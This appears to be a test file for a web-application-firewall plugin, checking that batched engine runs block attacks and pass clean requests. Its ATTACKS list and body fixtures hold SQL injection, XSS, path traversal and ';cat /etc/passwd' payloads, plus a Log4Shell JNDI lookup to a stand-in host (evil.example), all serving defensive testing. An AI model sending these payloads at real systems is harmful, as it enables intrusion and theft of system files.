/* eslint-disable no-template-curly-in-string -- attack payloads contain literal ${...} lookups */
/**
 * Joint engine runs: the phases that reach the engine in one turn of the event loop are judged
 * in one run, and one by one only when that run matches something or times out.
 * - the engine's `allClean` agrees with the phases judged alone, over the CRS corpus and the benign
 *   set, with each matching phase hidden among clean ones at every position;
 * - through the plugin over TCP (pipelined requests, so they arrive in one read): every attack is
 *   blocked and every clean request passes, whatever else shares its run; each request goes on in
 *   its own async context; an engine that throws fails only its own request.
 */
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { AsyncLocalStorage } from 'node:async_hooks'
import t, { type Test } from 'tap'
import Fastify, { type FastifyInstance } from 'fastify'
import { gatewayErrorHandler, gatewayNotFoundHandler } from '../../src/errors.js'
import { inspectPlugin, createEngine, collectRequest, InspectEngine, InspectLimitError, type InspectPluginOptions } from '../../plugins/inspect/index.js'
import { Collected } from '../../plugins/inspect/extract.js'
import { pipelinedRequests } from '../helpers/raw-http.js'
import { rulesetFile, TIED_PAIR_RULESET } from '../helpers/rulesets.js'

const projectRoot = fileURLToPath(new URL('../..', import.meta.url))
const limits = { maxInspectBytes: 32 * 1024, maxBodyDepth: 32, maxBodyKeys: 2000 }
const BUDGET = 2_000_000

interface FileRequest { method: string, uri: string, headers: Record<string, string>, body: string }

function phases (engine: InspectEngine, file: string): Collected[] {
  const out: Collected[] = []
  for (const line of readFileSync(file, 'utf8').split('\n')) {
    if (line.trim() === '') continue
    const r = JSON.parse(line) as FileRequest
    const headers: Record<string, string> = {}
    for (const [k, v] of Object.entries(r.headers)) headers[k.toLowerCase()] = v
    try {
      const c = collectRequest({ url: r.uri, headers, body: r.body === '' ? undefined : Buffer.from(r.body) }, limits, true, engine.wordScreen)
      if (!c.empty) out.push(c)
    } catch (err) {
      if (!(err instanceof InspectLimitError)) throw err
    }
  }
  return out
}

/** A small deterministic generator (mulberry32: the groups are the same on every run). */
function seeded (seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6D2B79F5) >>> 0
    let x = Math.imul(a ^ (a >>> 15), a | 1)
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61)
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296
  }
}

/** SQL-ish token sequences (some are what libinjection calls SQL, all are text words). */
function sqlishWords (count: number, random: () => number): string[] {
  const tokens = ['1', '0', 'or', 'and', 'union', 'all', 'select', 'order by', 'group by', 'having', 'name', '--', '@@version', '@a', 'admin', 'x', 'from',
    'users', 'null', ',', ':', '.', 'like', 'between', 'is', 'not', 'true', 'div', 'xor', 'rlike', 'limit', 'sleep', 'case', 'when', 'then', 'end']
  return Array.from({ length: count }, () => Array.from({ length: 2 + Math.floor(random() * 5) }, () => tokens[Math.floor(random() * tokens.length)]).join(' '))
}

t.test('allClean agrees with every phase judged alone: corpus attacks hidden among clean phases', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const random = seeded(42)
  const corpusFile = resolve(projectRoot, 'test/fixtures/crs/crs-regression.jsonl')
  const benignFile = resolve(projectRoot, 'test/fixtures/benign/benign.jsonl')
  // Whole requests (never only screened values), and single text words that are (the screened
  // engine's inputs): fragments of the corpus and the benign set, and SQL-ish token sequences.
  const plain = [...phases(engine, corpusFile), ...phases(engine, benignFile)]
  const words = new Set(sqlishWords(40_000, random))
  for (const file of [corpusFile, benignFile]) {
    for (const line of readFileSync(file, 'utf8').split('\n')) {
      if (line.trim() === '') continue
      const r = JSON.parse(line) as FileRequest
      let text = `${r.uri} ${r.body}`
      try { text = decodeURIComponent(text.replace(/\+/g, ' ')) } catch {}
      for (const w of text.split(/[^A-Za-z0-9 _.,:@-]+/)) if (w.trim() !== '' && w.length < 200) words.add(w)
    }
  }
  const screened: Collected[] = []
  for (const w of words) {
    const c = new Collected(limits.maxInspectBytes, undefined, engine.wordScreen)
    c.add(c.query, w)
    if (c.onlyScreened) screened.push(c)
  }
  const alone = (c: Collected): boolean => {
    const r = engine.evaluate(c, BUDGET)
    return r.matches.length === 0 && !r.timeout
  }
  let wrong = 0
  for (const [kind, list] of [['plain', plain], ['screened', screened]] as const) {
    const clean = list.filter(alone)
    const matching = list.filter((c) => !alone(c))
    t.ok(clean.length > 100 && matching.length > 100, `${kind}: ${clean.length} clean, ${matching.length} matching phases`)
    const pick = (from: Collected[]): Collected => from[Math.floor(random() * from.length)] as Collected
    const isScreened = kind === 'screened'
    // Every matching phase once, with 1..15 clean phases around it, at a random place.
    for (const m of matching) {
      const group = Array.from({ length: 1 + Math.floor(random() * 15) }, () => pick(clean))
      group.splice(Math.floor(random() * (group.length + 1)), 0, m)
      if (engine.allClean(group, isScreened, BUDGET)) wrong++
    }
    // Clean phases together are clean together.
    for (let i = 0; i < 300; i++) {
      const group = Array.from({ length: 2 + Math.floor(random() * 40) }, () => pick(clean))
      if (!engine.allClean(group, isScreened, BUDGET)) wrong++
    }
    // Two matching phases in one run.
    for (let i = 0; i < 100; i++) if (engine.allClean([pick(clean), pick(matching), pick(matching)], isScreened, BUDGET)) wrong++
  }
  t.equal(wrong, 0, 'the joint verdict is clean exactly when every phase is clean alone')
})

t.test('allClean: a timeout is not clean; a ruleset that ties values together refuses joint runs', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const group = Array.from({ length: 30 }, (_, i) => collectRequest({ url: `/x?note=${encodeURIComponent(`plain words, ${i} of them, and more (plain) words; `.repeat(4))}`, headers: {} }, limits, false, engine.wordScreen))
  t.equal(engine.allClean(group, false, BUDGET), true, 'clean with a generous budget')
  t.equal(engine.allClean(group, false, 1), false, 'not clean when the run times out')

  const tied = createEngine(rulesetFile(TIED_PAIR_RULESET))
  t.teardown(() => { tied.dispose() })
  t.equal(tied.cacheable, false)
  t.throws(() => tied.allClean(group, false, BUDGET), /cacheable/)
})

interface Served { app: FastifyInstance, port: number, hits: () => number }

/** A Fastify with the plugin and one route (every request and body inspected), listening on TCP. */
async function serve (t: Test, options: InspectPluginOptions, setup?: (app: FastifyInstance) => void): Promise<Served> {
  const app = Fastify({ logger: false })
  app.setErrorHandler(gatewayErrorHandler)
  app.setNotFoundHandler(gatewayNotFoundHandler)
  setup?.(app)
  await app.register(inspectPlugin, options)
  let hits = 0
  app.route({
    method: ['GET', 'POST'],
    url: '/api/*',
    config: { inspect: { mode: 'block', body: true } },
    handler: async (request) => {
      hits++
      return { ok: true, seen: (request as unknown as { seen?: unknown }).seen }
    }
  })
  await app.listen({ port: 0, host: '127.0.0.1' })
  const addr = app.server.address()
  const port = typeof addr === 'object' && addr !== null ? addr.port : 0
  t.teardown(async () => { await app.close() })
  return { app, port, hits: () => hits }
}

/** Spies on joint runs: the size of each and whether it came out clean (`replace` stands in for the engine). */
function spyJoint (t: Test, replace?: () => boolean): Array<{ size: number, clean: boolean }> {
  const runs: Array<{ size: number, clean: boolean }> = []
  const original = InspectEngine.prototype.allClean
  InspectEngine.prototype.allClean = function (this: InspectEngine, inputs, screened, timeoutMicros) {
    const run = { size: inputs.length, clean: false }
    runs.push(run)
    run.clean = replace !== undefined ? replace() : original.call(this, inputs, screened, timeoutMicros)
    return run.clean
  }
  t.teardown(() => { InspectEngine.prototype.allClean = original })
  return runs
}

const ATTACKS = [
  '/api/items?id=' + encodeURIComponent("1' UNION SELECT password FROM users--"),
  '/api/items?q=' + encodeURIComponent('<script>alert(1)</script>'),
  '/api/files/..%2f..%2f..%2fetc%2fpasswd',
  '/api/items?cmd=' + encodeURIComponent(';cat /etc/passwd'),
  '/api/items?q=' + encodeURIComponent('1 or 1=1'),
  '/api/items?x=' + encodeURIComponent('${jndi:ldap://evil.example/a}'),
  '/api/items?q=' + encodeURIComponent('" onmouseover="alert(1)')
]

/** A raw keep-alive request. */
function raw (method: string, path: string, headers: Record<string, string> = {}, body = ''): string {
  const lines = [`${method} ${path} HTTP/1.1`, 'host: gateway.test', ...Object.entries(headers).map(([k, v]) => `${k}: ${v}`)]
  if (body !== '') lines.push(`content-length: ${Buffer.byteLength(body)}`)
  return `${lines.join('\r\n')}\r\n\r\n${body}`
}

t.test('over TCP: pipelined requests judged together; attacks among them blocked, the rest pass', async (t) => {
  const runs = spyJoint(t)
  const s = await serve(t, {})
  const random = seeded(7)
  const plan: Array<{ path: string, attack: boolean }> = []
  for (let i = 0; i < 40; i++) plan.push({ path: `/api/search?q=${encodeURIComponent(`blue shoes ${i}`)}&page=${i}`, attack: false })
  for (const a of ATTACKS) plan.splice(Math.floor(random() * plan.length), 0, { path: a, attack: true })
  const answers = await pipelinedRequests(s.port, plan.map((p) => raw('GET', p.path)))
  let wrong = 0
  plan.forEach((p, i) => {
    const status = answers[i]?.status
    if (status !== (p.attack ? 403 : 200)) {
      wrong++
      t.fail(`${p.path}: ${status ?? '?'}`)
    }
  })
  t.equal(wrong, 0, 'every attack 403, every clean request 200')
  t.equal(s.hits(), plan.filter((p) => !p.attack).length, 'only the clean requests reached the handler')
  t.ok(runs.some((r) => r.size > 1 && !r.clean), 'a joint run with attacks in it was judged again one by one')
  // New clean values only: one joint run, clean.
  runs.length = 0
  const clean = await pipelinedRequests(s.port, Array.from({ length: 30 }, (_, i) => raw('GET', `/api/search?q=${encodeURIComponent(`red shoes ${i}`)}`)))
  t.same(clean.map((r) => r.status), Array(30).fill(200))
  t.ok(runs.some((r) => r.size > 1 && r.clean), `clean requests were judged together (runs of ${runs.map((r) => r.size).join(', ')})`)

  // Bodies too (the preValidation phase).
  const bodies = ['{"q":"1\' OR \'1\'=\'1"}', '{"name":"O\'Brien","note":"drop me a line"}', '{"c":"<svg/onload=alert(1)>"}', '{"sku":"A-1","qty":2}']
  const posted = await pipelinedRequests(s.port, bodies.flatMap((b) => [b, b, b]).map((b, i) => raw('POST', `/api/orders/${i}`, { 'content-type': 'application/json' }, b)))
  t.same(posted.map((r) => r.status), [403, 403, 403, 200, 200, 200, 403, 403, 403, 200, 200, 200])
  t.equal(s.hits(), plan.filter((p) => !p.attack).length + 30 + 6)
})

t.test('over TCP: each request goes on in its own async context after a joint run', async (t) => {
  const als = new AsyncLocalStorage<{ id: string }>()
  const runs = spyJoint(t)
  const s = await serve(t, {}, (app) => {
    app.addHook('onRequest', function enter (request, _reply, done) {
      als.run({ id: String(request.headers['x-caller']) }, done)
    })
    app.addHook('preHandler', async function read (request) {
      (request as unknown as { seen?: unknown }).seen = als.getStore()?.id
    })
  })
  const ids = Array.from({ length: 40 }, (_, i) => `caller-${i}`)
  const answers = await pipelinedRequests(s.port, ids.map((id, i) => raw('GET', `/api/search?q=${encodeURIComponent(`red hat ${i}`)}`, { 'x-caller': id })))
  t.same(answers.map((r) => (JSON.parse(r.body) as { seen?: string }).seen), ids, 'every handler saw its own request\'s store')
  t.ok(runs.some((r) => r.size > 1), 'the requests were judged together')
})

t.test('over TCP: a joint run that throws is judged one by one; an engine error fails only its request', async (t) => {
  const runs = spyJoint(t, () => { throw new Error('engine failure') })
  const original = InspectEngine.prototype.evaluate
  InspectEngine.prototype.evaluate = function (this: InspectEngine, inputs, timeoutMicros) {
    if (JSON.stringify(inputs.payload()).includes('explode now')) throw new Error('engine failure')
    return original.call(this, inputs, timeoutMicros)
  }
  t.teardown(() => { InspectEngine.prototype.evaluate = original })
  const s = await serve(t, {})
  const paths = [
    ...Array.from({ length: 10 }, (_, i) => `/api/search?q=${encodeURIComponent(`green tea ${i}`)}`),
    `/api/search?q=${encodeURIComponent('explode now')}`,
    '/api/items?q=' + encodeURIComponent('<script>alert(1)</script>')
  ]
  const answers = await pipelinedRequests(s.port, paths.map((p) => raw('GET', p)))
  t.same(answers.slice(0, 10).map((a) => a.status), Array(10).fill(200), 'clean requests pass')
  t.equal(answers[10]?.status, 500, 'the request whose evaluation threw fails')
  t.notMatch(answers[10]?.body ?? '', /engine failure/, 'with a generic body')
  t.equal(answers[11]?.status, 403, 'the attack is still blocked')
  t.ok(runs.length > 0, 'joint runs were tried (and threw)')
  t.equal(s.hits(), 10)
})
